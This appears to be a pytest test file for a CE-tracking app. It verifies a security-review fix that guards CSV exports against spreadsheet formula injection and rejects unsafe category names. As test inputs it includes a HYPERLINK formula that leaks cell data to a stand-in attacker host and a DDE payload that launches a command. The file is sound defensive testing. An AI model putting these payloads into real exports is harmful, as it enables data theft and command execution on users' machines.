"""The security review's L5: no CSV the app hands out can carry a formula a spreadsheet would run.

Category names reached the Board's CSV header and the transcript's category column unguarded, and the program
editor took any name. Now one writer guards every cell and header of every export, and the editor refuses a
name a spreadsheet would read as a formula.
"""

from __future__ import annotations

import csv
import re
from datetime import date
from io import StringIO
from pathlib import Path

import pytest

from ce_tracker.models import Role
from ce_tracker.rules.program_check import CategoryDraft, GroupDraft, ProgramDraft, ProgramInvalid, check_program
from ce_tracker.services.board import cohorts
from ce_tracker.services.programs.store import forget_programs
from ce_tracker.services.record import credit_record, transcript
from tests.utils import factories as f

NOW = f.at(date(2026, 11, 25))
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Art")'
CODE = Path(__file__).resolve().parents[2] / "ce_tracker"


def _formula_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(StringIO(text)) for cell in row
            if cell and cell[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"]


def _category_named_as_a_formula(session) -> None:
    """A category name from before the editor refused such names (or typed into the database by hand)."""
    art = f.category(session, "Art")
    art.name = FORMULA
    session.add(art)
    session.flush()
    forget_programs()


def test_review_l5_a_category_name_is_guarded_in_the_board_csv_header_and_the_transcript(session):
    f.program(session)
    _category_named_as_a_formula(session)
    member = f.person(session, name="Ada Lovelace", certified_on=date(2024, 1, 1))
    f.course_credit(session, member, FORMULA, "6", date(2025, 3, 1), title="+SUM(1,2)")
    board = f.person(session, Role.BOARD)

    board_csv = cohorts.certificants_csv(session=session, actor=board, now=NOW)
    assert f"'{FORMULA} counted" in next(csv.reader(StringIO(board_csv)))
    assert _formula_cells(board_csv) == []

    record_csv = transcript.record_csv(credit_record.credit_record(session=session, actor=member, now=NOW))
    [line] = list(csv.reader(StringIO(record_csv)))[1:]
    assert line[:2] == ["'+SUM(1,2)", f"'{FORMULA}"]
    assert _formula_cells(record_csv) == []


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "\uff20A1"])
def test_review_l5_the_one_writer_guards_every_cell_that_a_spreadsheet_would_run(value):
    from ce_tracker.services import spreadsheets

    text = spreadsheets.csv_text(["Name", value], [[value, "plain", 3]])
    header, row = list(csv.reader(StringIO(text)))
    assert header == ["Name", "'" + value] and row == ["'" + value, "plain", "3"]


def test_review_l5_every_csv_the_app_writes_goes_through_the_one_guarded_writer():
    writers = [f"{path.relative_to(CODE)}: {line.strip()}" for path in CODE.rglob("*.py")
               for line in path.read_text().splitlines()
               if re.search(r"\bcsv\.(writer|DictWriter)\(", line) and path.name != "spreadsheets.py"]
    assert writers == []


def _draft(category: str, group: str = "") -> ProgramDraft:
    return ProgramDraft(code="TEST", name="Test program", term_years="5", total_hours="35",
                        categories=(CategoryDraft(category, "0", "", group), CategoryDraft("Biomedical", "14")),
                        groups=(GroupDraft(group, "7"),) if group else ())


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+Art", "-Art", "@Art", "\uff1dArt"])
def test_review_l5_the_program_editor_refuses_a_category_name_a_spreadsheet_would_run(name):
    with pytest.raises(ProgramInvalid) as refused:
        check_program(_draft(name))
    assert refused.value.problems == (
        f"Category 1: “{name}” starts with {name[0]}, which a spreadsheet would run as a formula; start the name "
        "with a letter or a digit.",)


def test_review_l5_the_program_editor_refuses_a_combined_cap_name_a_spreadsheet_would_run():
    with pytest.raises(ProgramInvalid) as refused:
        check_program(_draft("Business", "=Business+History"))
    assert refused.value.problems[0] == (
        "Combined cap 1: “=Business+History” starts with =, which a spreadsheet would run as a formula; start the "
        "name with a letter or a digit.")
    assert check_program(_draft("Art-History (1700-1900)")).categories[0].name == "Art-History (1700-1900)"
